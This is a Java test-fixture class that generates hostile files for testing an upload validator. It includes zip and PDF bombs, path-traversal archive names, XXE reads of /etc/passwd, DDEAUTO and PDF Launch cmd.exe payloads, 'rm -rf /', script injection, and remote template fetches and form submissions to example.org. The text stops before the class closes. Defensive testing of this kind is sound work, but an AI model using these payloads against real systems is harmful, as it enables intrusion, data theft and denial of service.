package vn.haidang.file.check;

import static vn.haidang.file.FileFixtures.utf8;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xwpf.model.XWPFHeaderFooterPolicy;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STHdrFtr;
import vn.haidang.file.FileFixtures;

/** Files that must not come in, made anew for every run: none of them lies in the repository. */
public final class HostileFiles {

    /** A word that stands in many of them: nothing may ever find it. */
    public static final String WORD = "tửđinhhươngbịtừchối";

    private static final String WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final byte[] BIG = new byte[16 * 1024 * 1024];

    private final List<HostileFile> all = new ArrayList<>();
    private String kind = "";

    private HostileFiles() {}

    /**
     * @param kind of attack
     * @param name as its sender calls it
     * @param reason key of the message that refuses it; several where it depends on who looks first
     */
    public record HostileFile(String kind, String name, byte[] content, List<String> reason) {

        @Override
        public String toString() {
            return kind + ": " + name;
        }
    }

    public static List<HostileFile> all() {
        var files = new HostileFiles();
        files.make();
        return List.copyOf(files.all);
    }

    private void make() {
        try {
            programs();
            otherKinds();
            foreign();
            damaged();
            locked();
            denseArchives();
            fullArchives();
            largeArchives();
            namesThatLeadElsewhere();
            archivesInside();
            contradictions();
            twoInOne();
            macros();
            controls();
            filesInside();
            linksOutside();
            fields();
            entities();
            depth();
            pdfScripts();
            pdfActions();
            pdfFilesInside();
            pdfBombs();
            pictures();
            drawings();
            marks();
            films();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void add(String name, byte[] content, String... reasons) {
        all.add(new HostileFile(
                kind,
                name,
                content,
                Arrays.stream(reasons).map(reason -> "file." + reason).toList()));
    }

    private void programs() {
        kind = "programs under another name";
        for (var extension : List.of("pdf", "docx", "xlsx", "pptx", "png", "jpg", "webp", "txt", "mp4")) {
            add("chương trình." + extension, FileFixtures.exe(), "content", "damaged");
        }
        add("kịch bản.txt", utf8("#!/bin/sh\nrm -rf /\n"), "content");
        add("trang.txt", utf8("<!DOCTYPE html><html><script>alert(1)</script></html>"), "content");
        add("trang.pdf", utf8("<html><script>alert(1)</script></html>"), "content");
        add("trang.jpg", utf8("<html><script>alert(1)</script></html>"), "content");
    }

    private void otherKinds() {
        kind = "another kind than the name says";
        add("ảnh.pdf", FileFixtures.png(3, 3), "content");
        add("ảnh.jpg", FileFixtures.png(3, 3), "content");
        add("bảng.docx", FileFixtures.xlsx(WORD), "content");
        add("văn bản.xlsx", FileFixtures.docx(WORD), "content");
        add("văn bản.pptx", FileFixtures.docx(WORD), "content");
        add("nén.docx", FileFixtures.zip(), "content");
        add("tài liệu.docx", FileFixtures.pdf(), "damaged", "content");
        add("nhạc.mp4", FileFixtures.mp3(), "content");
    }

    private void foreign() {
        kind = "kinds that are not taken";
        for (var extension : List.of("exe", "html", "js", "docm", "xlsm", "doc", "zip", "lnk", "svgz", "hta")) {
            add("tệp." + extension, FileFixtures.zip(), "kind");
        }
        add("hình.png.exe", FileFixtures.exe(), "kind");
        add("không đuôi", FileFixtures.pdf(), "kind");
    }

    private void damaged() {
        kind = "damaged";
        add("hỏng.pdf", utf8("%PDF-1.7\nbroken"), "damaged");
        add("đứt.docx", half(FileFixtures.docx(WORD)), "damaged");
        add("đứt.xlsx", half(FileFixtures.xlsx(WORD)), "damaged");
        add("đứt.pptx", half(FileFixtures.pptx(WORD)), "damaged");
        add("đứt.png", half(FileFixtures.png(300, 300)), "damaged");
        add("đứt.jpg", half(FileFixtures.jpg(300, 300)), "damaged");
        add("đứt.webp", half(FileFixtures.webp()), "damaged", "content");
        add("rỗng.png", FileFixtures.pngThatClaims(10, 10), "damaged");
        add("đứt.mp4", half(FileFixtures.mp4()), "damaged");
        add("trống.docx", new byte[0], "empty");
        add("sai.docx", docx("<w:p><w:r><w:t>" + WORD), "damaged");
    }

    private void locked() throws IOException {
        kind = "behind a password";
        add("khóa mở.pdf", protectedPdf("mở", "chủ"), "locked");
        add("khóa in.pdf", protectedPdf("", "chủ"), "locked");
        for (var extension : List.of("docx", "xlsx", "pptx")) {
            add("khóa." + extension, oldOffice(), "locked");
        }
        add("cũ.docx", oldOffice(), "locked");
        add("khóa nén.docx", patched(FileFixtures.docx(WORD), 0x02014b50, 8, 1), "locked");
    }

    private void denseArchives() throws IOException {
        kind = "archive: dense";
        for (var extension : List.of("docx", "xlsx", "pptx")) {
            add("bom." + extension, with(base(extension), Map.of("bom.xml", BIG)), "archive");
            add("bom ảnh." + extension, with(base(extension), Map.of("media/bom.png", BIG)), "archive");
        }
    }

    private void fullArchives() throws IOException {
        kind = "archive: many entries";
        var many = new LinkedHashMap<String, byte[]>();
        for (var i = 0; i < 6_000; i++) {
            many.put("m/" + i + ".xml", utf8("<a/>"));
        }
        for (var extension : List.of("docx", "xlsx", "pptx")) {
            add("nhiều." + extension, with(base(extension), many), "archive");
            add("rất nhiều." + extension, patchedEnd(base(extension), 10, 0xffff), "archive");
        }
    }

    private void largeArchives() {
        kind = "archive: more than it says";
        for (var extension : List.of("docx", "xlsx", "pptx")) {
            add("khai lớn." + extension, patchedAll(base(extension), 24, 0x7fff_ffff), "archive");
            add("khai nhỏ." + extension, patched(base(extension), 0x02014b50, 24, 1), "archive");
        }
    }

    private void namesThatLeadElsewhere() throws IOException {
        kind = "archive: names that lead elsewhere";
        for (var name : List.of(
                "../../etc/passwd.xml",
                "/etc/x.xml",
                "..\\..\\x.xml",
                "C:/x.xml",
                "a/../../b.xml",
                "a//b.xml",
                "x\u0001.xml")) {
            add("đường dẫn.docx", with(base("docx"), Map.of(name, utf8("<a/>"))), "archive");
        }
    }

    private void archivesInside() throws IOException {
        kind = "archive: archives inside";
        add("nén.docx", with(base("docx"), Map.of("word/media/a.png", FileFixtures.zip())), "archive");
        add("nén 2.docx", with(base("docx"), Map.of("word/a.zip", FileFixtures.zip())), "archive", "embedded");
        add("nén 3.pptx", with(base("pptx"), Map.of("ppt/media/a.jpeg", FileFixtures.docx(WORD))), "archive");
        add("rar.docx", with(base("docx"), Map.of("word/media/a.png", utf8("Rar!\u001a\u0007"))), "archive");
        add(
                "gz.xlsx",
                with(base("xlsx"), Map.of("xl/media/a.emf", new byte[] {0x1f, (byte) 0x8b, 8, 0, 0})),
                "archive");
        var inner = with(base("xlsx"), Map.of("xl/embeddings/b.xlsx", FileFixtures.xlsx(WORD)));
        add("sâu.xlsx", with(base("xlsx"), Map.of("xl/embeddings/a.xlsx", inner)), "archive");
    }

    private void contradictions() throws IOException {
        kind = "archive: contradictions";
        add(
                "trùng.docx",
                replaced(
                        with(base("docx"), Map.of("a1.xml", utf8("<a/>"), "a2.xml", utf8("<b/>"))), "a2.xml", "a1.xml"),
                "archive");
        add("hoa thường.docx", with(base("docx"), Map.of("WORD/DOCUMENT.XML", utf8("<a/>"))), "archive");
        add(
                "khác tên.docx",
                replacedLast(with(base("docx"), Map.of("a1.xml", utf8("<a/>"))), "a1.xml", "a9.xml"),
                "archive");
        add("chồng.docx", patchedLast(with(base("docx"), Map.of("a1.xml", utf8("<a/>"))), 42, 0), "archive");
        add("cách nén.docx", patched(base("docx"), 0x02014b50, 10, 14), "archive");
        add("có đầu.docx", joined(new byte[100], base("docx")), "mixed", "damaged");
    }

    private void twoInOne() throws IOException {
        kind = "two kinds in one";
        add("pdf và zip.pdf", joined(FileFixtures.pdf(), FileFixtures.zip()), "mixed");
        add("png và zip.png", joined(FileFixtures.png(5, 5), FileFixtures.zip()), "mixed");
        add("jpg và zip.jpg", joined(FileFixtures.jpg(5, 5), FileFixtures.docx(WORD)), "mixed");
        add("webp và trang.webp", joined(FileFixtures.webp(), utf8("<script>alert(1)</script>")), "mixed");
        add("png và trang.png", joined(FileFixtures.png(5, 5), utf8("<script>alert(1)</script>")), "mixed");
        add("pdf và trang.pdf", joined(FileFixtures.pdf(), utf8("<script>//" + "x".repeat(2_000))), "mixed");
        add("mp4 và zip.mp4", joined(FileFixtures.mp4(), FileFixtures.zip()), "mixed", "damaged");
        add("mp3 và zip.mp3", joined(FileFixtures.mp3(), FileFixtures.zip()), "mixed");
    }

    private void macros() throws IOException {
        kind = "macros";
        add("macro.docx", with(base("docx"), Map.of("word/vbaProject.bin", oldOffice())), "macros");
        add("macro.xlsx", with(base("xlsx"), Map.of("xl/vbaProject.bin", oldOffice())), "macros");
        add("macro.pptx", with(base("pptx"), Map.of("ppt/vbaProject.bin", oldOffice())), "macros");
        add(
                "docm.docx",
                typed("docx", "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"),
                "macros");
        add(
                "xlsm.xlsx",
                typed("xlsx", "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"),
                "macros");
        add("xlm.xlsx", with(base("xlsx"), Map.of("xl/macrosheets/sheet1.xml", utf8("<a/>"))), "macros");
        add(
                "nút.xlsx",
                with(base("xlsx"), Map.of("xl/drawings/drawing9.xml", utf8("<sp macro=\"[0]!Chay\"/>"))),
                "macros");
        add(
                "quan hệ.docx",
                related("docx", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin", ""),
                "macros");
    }

    private void controls() throws IOException {
        kind = "controls and add-ins";
        add("activex.docx", with(base("docx"), Map.of("word/activeX/activeX1.xml", utf8("<a/>"))), "script");
        add("activex.pptx", with(base("pptx"), Map.of("ppt/activeX/activeX1.bin", new byte[9])), "script");
        add("điều khiển.xlsx", related("xlsx", REL + "/control", "x.xml", ""), "script");
        add("dải lệnh.docx", with(base("docx"), Map.of("customUI/customUI.xml", utf8("<customUI/>"))), "script");
        add("tiện ích.docx", with(base("docx"), Map.of("word/webextensions/taskpanes.xml", utf8("<a/>"))), "script");
        add(
                "chạy.pptx",
                with(base("pptx"), Map.of("ppt/slides/s9.xml", utf8("<hlinkClick action=\"ppaction://program\"/>"))),
                "script");
    }

    private void filesInside() throws IOException {
        kind = "files inside office files";
        add("ole.docx", with(base("docx"), Map.of("word/embeddings/oleObject1.bin", oldOffice())), "embedded");
        add("ole.pptx", related("pptx", REL + "/oleObject", "x.xml", ""), "embedded");
        add(
                "ole.xlsx",
                with(base("xlsx"), Map.of("xl/worksheets/s9.xml", utf8("<oleObjects><oleObject/></oleObjects>"))),
                "embedded");
        add("đính kèm.docx", FileFixtures.docxWithAttachment(WORD, FileFixtures.docx(WORD)), "embedded", "archive");
        add("exe.docx", with(base("docx"), Map.of("word/media/image1.png", FileFixtures.exe())), "embedded");
        add("pdf.pptx", with(base("pptx"), Map.of("ppt/media/a.emf", FileFixtures.pdf())), "embedded");
        add("html.docx", related("docx", REL + "/aFChunk", "chunk.xml", ""), "embedded");
        add("js.docx", with(base("docx"), Map.of("word/media/a.js", utf8("alert(1)"))), "embedded");
    }

    private void linksOutside() throws IOException {
        kind = "links that fetch";
        add(
                "mẫu.docx",
                related("docx", REL + "/attachedTemplate", "https://example.org/a.dotm", "External"),
                "external");
        add("mẫu 2.docx", related("docx", REL + "/attachedTemplate", "file://server/a.dotm", "External"), "external");
        add("ảnh.docx", related("docx", REL + "/image", "http://example.org/a.png", "External"), "external");
        add("ảnh.pptx", related("pptx", REL + "/image", "\\\\server\\a.png", "External"), "external");
        add("liên kết.docx", related("docx", REL + "/hyperlink", "file:///C:/a.exe", "External"), "external");
        add("liên kết 2.docx", related("docx", REL + "/hyperlink", "\\\\server\\a", "External"), "external");
        add("liên kết 3.pptx", related("pptx", REL + "/hyperlink", "javascript:alert(1)", "External"), "external");
        add("liên kết 4.docx", related("docx", REL + "/hyperlink", "ms-msdt:/id", "External"), "external");
        add(
                "bảng ngoài.xlsx",
                with(base("xlsx"), Map.of("xl/externalLinks/externalLink1.xml", utf8("<a/>"))),
                "external");
        add("kết nối.xlsx", with(base("xlsx"), Map.of("xl/connections.xml", utf8("<a/>"))), "external");
        add(
                "web.xlsx",
                with(base("xlsx"), Map.of("xl/worksheets/s9.xml", utf8("<c><f>WEBSERVICE(\"http://a\")</f></c>"))),
                "external");
        add("trường.docx", docx(field("INCLUDEPICTURE \"http://example.org/a.png\"")), "external");
    }

    private void fields() throws IOException {
        kind = "DDE";
        add("dde.docx", docx(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")), "script");
        add("dde 2.docx", docx(field(" dde excel a b")), "script");
        add(
                "dde cắt.docx",
                docx(
                        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>"
                                + "<w:r><w:instrText>EAUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"),
                "script");
        add("dde đơn.docx", docx("<w:p><w:fldSimple w:instr=\"DDEAUTO cmd\"/></w:p>"), "script");
        add(
                "dde.xlsx",
                with(base("xlsx"), Map.of("xl/worksheets/s9.xml", utf8("<c><f>cmd|'/c calc'!A1</f></c>"))),
                "script");
        add(
                "dde 2.xlsx",
                with(base("xlsx"), Map.of("xl/worksheets/s9.xml", utf8("<c><f>1+DDE|'x'!A1</f></c>"))),
                "script");
        add("dde 3.xlsx", with(base("xlsx"), Map.of("xl/a.xml", utf8("<ddeLink ddeService=\"cmd\"/>"))), "script");
    }

    private void entities() throws IOException {
        kind = "entities";
        var laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY x0 \"ha\">");
        for (var i = 1; i < 30; i++) {
            laughs.append("<!ENTITY x%d \"&x%d;&x%d;\">".formatted(i, i - 1, i - 1));
        }
        laughs.append("]><a>&x29;</a>");
        var outside = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        for (var extension : List.of("docx", "xlsx", "pptx")) {
            add(
                    "cười." + extension,
                    with(base(extension), Map.of("a.xml", utf8(laughs.toString()))),
                    "script",
                    "damaged");
            add("ngoài." + extension, with(base(extension), Map.of("b.xml", utf8(outside))), "script", "damaged");
        }
        add("quan hệ.docx", with(base("docx"), Map.of("word/_rels/x.xml.rels", utf8(outside))), "script", "damaged");
        add("loại.docx", replacedPart("docx", "[Content_Types].xml", outside), "script", "damaged");
    }

    private void depth() throws IOException {
        kind = "depth";
        for (var extension : List.of("docx", "xlsx", "pptx")) {
            var deep = "<a>".repeat(50_000) + "</a>".repeat(50_000);
            add("sâu." + extension, with(base(extension), Map.of("a.xml", utf8(deep))), "complex", "damaged");
        }
        add("sâu.pdf", pdf("/X " + "[".repeat(100_000) + "]".repeat(100_000)), "complex", "damaged");
        add("sâu 2.pdf", pdf("/X " + "<</A ".repeat(50_000) + "1" + ">>".repeat(50_000)), "complex", "damaged");
        add("sâu 3.pdf", pdf("/X " + "[".repeat(400) + "]".repeat(400)), "complex", "damaged");
    }

    private void pdfScripts() {
        kind = "PDF: scripts";
        add("mở.pdf", pdf("/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"), "script");
        add("đóng.pdf", pdf("/AA <</WC <</S /JavaScript /JS (1)>>>>"), "script");
        add("tên.pdf", pdf("/Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (1)>>]>>>>"), "script");
        add("tiếp.pdf", pdf("/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next <</S /JavaScript /JS (1)>>>>"), "script");
        add("mã hóa tên.pdf", pdf("/OpenAction <</S /J#61vaScript /#4aS (1)>>"), "script");
        add(
                "luồng.pdf",
                pdf("/OpenAction <</S /JavaScript /JS 9 0 R>>", "<</Length 1>>\nstream\n1\nendstream"),
                "script");
        add("mồ côi.pdf", pdf("", "<</S /JavaScript /JS (1)>>"), "script");
        add("xfa.pdf", pdf("/AcroForm <</Fields [] /XFA (a)>>"), "script");
    }

    private void pdfActions() {
        kind = "PDF: actions";
        add("chạy.pdf", pdf("/OpenAction <</S /Launch /F (cmd.exe)>>"), "script");
        add("chạy 2.pdf", pdf("/OpenAction <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>"), "script");
        add("gửi.pdf", pdf("/OpenAction <</S /SubmitForm /F (http://example.org)>>"), "script");
        add("nhập.pdf", pdf("/OpenAction <</S /ImportData /F (a.fdf)>>"), "script");
        add("phim.pdf", pdf("/OpenAction <</S /Rendition /OP 0>>"), "script");
        add("tới tệp.pdf", pdf("/OpenAction <</S /GoToR /F (\\\\\\\\server\\\\a) /D [0 /Fit]>>"), "external");
        add("tới tệp 2.pdf", pdf("/OpenAction <</S /GoToE /F (a.pdf)>>"), "external");
        add("địa chỉ.pdf", pdf("/OpenAction <</S /URI /URI (file:///etc/passwd)>>"), "external");
        add("địa chỉ 2.pdf", pdf("/OpenAction <</S /URI /URI (javascript:alert\\(1\\))>>"), "external");
        add("luồng ngoài.pdf", pdf("", "<</Length 0 /F (http://example.org/a)>>\nstream\n\nendstream"), "external");
    }

    private void pdfFilesInside() {
        kind = "PDF: files inside";
        add(
                "kèm.pdf",
                pdf(
                        "/Names <</EmbeddedFiles <</Names [(a.exe) 9 0 R]>>>>",
                        "<</Type /Filespec /F (a.exe) /EF <</F 10 0 R>>>>",
                        "<</Type /EmbeddedFile /Length 2>>\nstream\nMZ\nendstream"),
                "embedded");
        add(
                "kèm 2.pdf",
                pdf("/AF [<</Type /Filespec /F (a.exe) /EF <</F 9 0 R>>>>]", "<</Length 2>>\nstream\nMZ\nendstream"),
                "embedded");
        add("ghim.pdf", pdf("", "<</Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9]>>"), "embedded");
        add("bộ.pdf", pdf("/Collection <</View /D>>"), "embedded");
        add("phim.pdf", pdf("", "<</Type /Annot /Subtype /RichMedia /Rect [0 0 9 9]>>"), "embedded");
        add("khối.pdf", pdf("", "<</Type /Annot /Subtype /3D /Rect [0 0 9 9]>>"), "embedded");
    }

    private void pdfBombs() throws IOException {
        kind = "PDF: bombs";
        add("bom.pdf", pdfWithStream(deflated(new byte[70 * 1024 * 1024]), "/FlateDecode"), "complex");
        add(
                "bom hai lớp.pdf",
                pdfWithStream(deflated(deflated(new byte[70 * 1024 * 1024])), "[/FlateDecode /FlateDecode]"),
                "complex");
        add("nhiều lớp.pdf", pdfWithStream(new byte[9], "[" + "/FlateDecode ".repeat(50) + "]"), "complex");
        add(
                "đối tượng.pdf",
                pdf(
                        "",
                        raw(
                                "<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                                deflated(new byte[100 * 1024 * 1024]))),
                "complex");
        add("ảnh.pdf", FileFixtures.pdfWithPictureThatClaims(60_000, 60_000), "pixels");
        add(
                "không trang.pdf",
                utf8(
                        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
                                + "trailer<</Root 1 0 R>>\n%%EOF"),
                "damaged");
    }

    private void pictures() throws IOException {
        kind = "pictures: pixels";
        add("bom.png", FileFixtures.pngThatClaims(60_000, 60_000), "pixels");
        add("bom dài.png", FileFixtures.pngThatClaims(Integer.MAX_VALUE, 1), "pixels");
        add("bom âm.png", FileFixtures.pngThatClaims(-1, 10), "damaged");
        add("bom.jpg", jpgThatClaims(60_000, 60_000), "pixels");
        add(
                "bom.docx",
                with(base("docx"), Map.of("word/media/a.png", FileFixtures.pngThatClaims(60_000, 60_000))),
                "pixels");
        add("bom.pptx", with(base("pptx"), Map.of("ppt/media/a.jpeg", jpgThatClaims(60_000, 60_000))), "pixels");
    }

    private void drawings() throws IOException {
        kind = "SVG";
        var bodies = new LinkedHashMap<String, String>();
        bodies.put("<script>alert(1)</script>", "script");
        bodies.put("<g onclick=\"alert(1)\"/>", "script");
        bodies.put("<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"/></foreignObject>", "script");
        bodies.put("<animate attributeName=\"href\" to=\"javascript:alert(1)\"/>", "script");
        bodies.put("<use href=\"data:text/html,a\"/>", "script");
        bodies.put("<image href=\"http://example.org/a.png\"/>", "external");
        bodies.put("<use href=\"http://example.org/a.svg#a\"/>", "external");
        bodies.put("<a href=\"http://example.org\"><text>x</text></a>", "external");
        bodies.put("<style>@import url(http://example.org/a.css);</style>", "external");
        bodies.put("<rect style=\"fill:url(http://example.org/a#b)\"/>", "external");
        for (var body : bodies.entrySet()) {
            var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\">" + body.getKey() + "</svg>";
            // By themselves drawings are taken from imports only.
            add("hình.svg", utf8(svg), body.getValue(), "kind");
            add("hình.docx", with(base("docx"), Map.of("word/media/a.svg", utf8(svg))), body.getValue());
        }
        add(
                "ngoài.docx",
                with(
                        base("docx"),
                        Map.of(
                                "word/media/a.svg",
                                utf8(
                                        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>"))),
                "script",
                "damaged");
    }

    private void marks() throws IOException {
        kind = "marks of secrecy";
        var text = "Kế hoạch " + WORD + "\n\nMẬT\n\nnội dung " + WORD;
        add("mật.txt", utf8(text), "secret");
        add("mật nfd.txt", utf8(Normalizer.normalize(text, Normalizer.Form.NFD)), "secret");
        add("mật.docx", FileFixtures.docx("Kế hoạch " + WORD, "MẬT"), "secret");
        add("tách.docx", docx("<w:p><w:r><w:t>TUYỆT M</w:t></w:r><w:r><w:t>ẬT</w:t></w:r></w:p>"), "secret");
        add("đầu trang.docx", docxWithHeader("TỐI MẬT"), "secret");
        add(
                "khung.docx",
                docx(
                        "<w:p><w:r><w:t>" + WORD
                                + "</w:t><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:textbox>"
                                + "<w:txbxContent><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"),
                "secret");
        add(
                "chữ vẽ.docx",
                docx(
                        "<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:textpath string=\"MẬT\"/></v:shape>"
                                + "</w:pict></w:r></w:p>"),
                "secret");
        add("mật.pptx", FileFixtures.pptx("TUYỆT MẬT"), "secret");
        add("mật.xlsx", FileFixtures.xlsx("M Ậ T"), "secret");
        add("mật.pdf", stampedPdf("MẬT"), "secret");
        add("tối mật.pdf", stampedPdf("TỐI MẬT"), "secret");
        add("tuyệt mật.pdf", stampedPdf("T U Y Ệ T   M Ậ T"), "secret");
        add("TÀI LIỆU MẬT.pdf", FileFixtures.pdf(), "secret");
    }

    private void films() {
        kind = "films and sound";
        add(
                "hộp.mp4",
                joined(
                        FileFixtures.mp4(),
                        ByteBuffer.allocate(16).putInt(16).put(utf8("evil")).array()),
                "mixed");
        add(
                "quá dài.mp4",
                joined(
                        FileFixtures.mp4(),
                        ByteBuffer.allocate(8).putInt(999).put(utf8("moov")).array()),
                "damaged");
        add("dư.mp4", joined(FileFixtures.mp4(), new byte[3]), "damaged");
        add(
                "vòng.mp4",
                joined(
                        FileFixtures.mp4(),
                        ByteBuffer.allocate(16)
                                .putInt(16)
                                .put(utf8("moov"))
                                .putInt(0)
                                .put(utf8("trak"))
                                .array()),
                "damaged");
        add("không tiếng.mp3", joined(utf8("ID3\4\0\0\0\0\0\0"), new byte[5_000]), "damaged");
        add("thẻ vô tận.mp3", joined(utf8("ID3\4\0\0\u007f\u007f\u007f\u007f"), new byte[5_000]), "damaged", "content");
    }

    // ---- how they are made

    private static final Map<String, byte[]> BASES =
            Map.of("docx", FileFixtures.docx(WORD), "xlsx", FileFixtures.xlsx(WORD), "pptx", FileFixtures.pptx(WORD));

    static byte[] base(String extension) {
        return Objects.requireNonNull(BASES.get(extension)).clone();
    }

    /** A document whose body is this XML. */
    static byte[] docx(String body) {
        return replacedPart(
                "docx",
                "word/document.xml",
                "<w:document xmlns:w=\"" + WORD_SPACE + "\"><w:body>" + body + "</w:body></w:document>");
    }

    private static String field(String code) {
        return "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>" + code
                + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    }

    static byte[] docxWithHeader(String text) throws IOException {
        try (var document = new XWPFDocument();
                var out = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText(WORD);
            new XWPFHeaderFooterPolicy(document)
                    .createHeader(STHdrFtr.DEFAULT)
                    .createParagraph()
                    .createRun()
                    .setText(text);
            document.write(out);
            return out.toByteArray();
        }
    }

    public static byte[] withPart(byte[] zip, String name, byte[] content) throws IOException {
        return with(zip, Map.of(name, content));
    }

    static byte[] with(byte[] zip, Map<String, byte[]> more) throws IOException {
        var parts = parts(zip);
        parts.putAll(more);
        return zip(parts);
    }

    static byte[] replacedPart(String extension, String name, String xml) {
        try {
            var parts = parts(base(extension));
            parts.put(name, utf8(xml));
            return zip(parts);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] typed(String extension, String type, String other) throws IOException {
        var types = new String(parts(base(extension)).get("[Content_Types].xml"), StandardCharsets.UTF_8);
        return replacedPart(
                extension,
                "[Content_Types].xml",
                types.replace("application/vnd.openxmlformats-officedocument." + type, "application/vnd." + other));
    }

    static byte[] related(String extension, String type, String target, String mode) throws IOException {
        var folder = Map.of("docx", "word", "xlsx", "xl", "pptx", "ppt").get(extension);
        var rels =
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"h1\" Type=\""
                        + type + "\" Target=\"" + target.replace("&", "&amp;") + "\""
                        + (mode.isEmpty() ? "" : " TargetMode=\"" + mode + "\"")
                        + "/></Relationships>";
        return with(base(extension), Map.of(folder + "/_rels/hostile.xml.rels", utf8(rels)));
    }

    static Map<String, byte[]> parts(byte[] zip) throws IOException {
        var parts = new LinkedHashMap<String, byte[]>();
        try (var in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (var entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        }
        return parts;
    }

    static byte[] zip(Map<String, byte[]> parts) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private static byte[] half(byte[] file) {
        return Arrays.copyOf(file, file.length * 2 / 3);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        var both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    /** Sets a short in the first record with this signature. */
    private static byte[] patched(byte[] zip, int signature, int offset, int value) {
        var bytes = ByteBuffer.wrap(zip.clone()).order(ByteOrder.LITTLE_ENDIAN);
        for (var at = 0; at < zip.length - 46; at++) {
            if (bytes.getInt(at) == signature) {
                if (offset == 24) {
                    bytes.putInt(at + offset, value);
                } else {
                    bytes.putShort(at + offset, (short) value);
                }
                return bytes.array();
            }
        }
        throw new IllegalStateException();
    }

    private static byte[] patchedAll(byte[] zip, int offset, int value) {
        var bytes = ByteBuffer.wrap(zip.clone()).order(ByteOrder.LITTLE_ENDIAN);
        for (var at = 0; at < zip.length - 46; at++) {
            if (bytes.getInt(at) == 0x02014b50) {
                bytes.putInt(at + offset, value);
            }
        }
        return bytes.array();
    }

    private static byte[] patchedLast(byte[] zip, int offset, int value) {
        var bytes = ByteBuffer.wrap(zip.clone()).order(ByteOrder.LITTLE_ENDIAN);
        for (var at = zip.length - 46; at >= 0; at--) {
            if (bytes.getInt(at) == 0x02014b50) {
                bytes.putInt(at + offset, value);
                return bytes.array();
            }
        }
        throw new IllegalStateException();
    }

    private static byte[] patchedEnd(byte[] zip, int offset, int value) {
        var bytes = ByteBuffer.wrap(zip.clone()).order(ByteOrder.LITTLE_ENDIAN);
        bytes.putShort(zip.length - 22 + offset, (short) value);
        return bytes.array();
    }

    private static byte[] replaced(byte[] zip, String from, String to) {
        var text = new String(zip, StandardCharsets.ISO_8859_1);
        return text.replace(from, to).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] replacedLast(byte[] zip, String from, String to) {
        var text = new String(zip, StandardCharsets.ISO_8859_1);
        var at = text.lastIndexOf(from);
        return (text.substring(0, at) + to + text.substring(at + from.length())).getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Bytes of the old office format, as encrypted files and macros are. */
    static byte[] oldOffice() throws IOException {
        try (var old = new POIFSFileSystem();
                var out = new ByteArrayOutputStream()) {
            old.createDocument(new ByteArrayInputStream(new byte[5_000]), "EncryptedPackage");
            old.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    private static byte[] protectedPdf(String user, String owner) throws IOException {
        try (var pdf = new PDDocument();
                var out = new ByteArrayOutputStream()) {
            pdf.addPage(new PDPage());
            pdf.protect(new StandardProtectionPolicy(owner, user, new AccessPermission()));
            pdf.save(out);
            return out.toByteArray();
        }
    }
